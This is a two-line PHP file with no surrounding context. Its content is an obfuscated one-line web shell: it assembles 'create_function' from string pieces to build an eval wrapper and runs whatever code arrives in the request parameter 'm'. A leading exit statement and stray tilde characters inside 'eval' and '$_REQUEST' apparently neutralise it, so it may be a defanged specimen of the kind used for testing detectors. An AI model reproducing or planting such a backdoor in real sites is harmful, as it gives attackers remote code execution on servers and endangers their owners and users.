<?php exit; ?>
<?php $c = 'create' . '_function'; $x = $c('$a', 'return eva~l($a);'); $x($_R~EQUEST['m']);
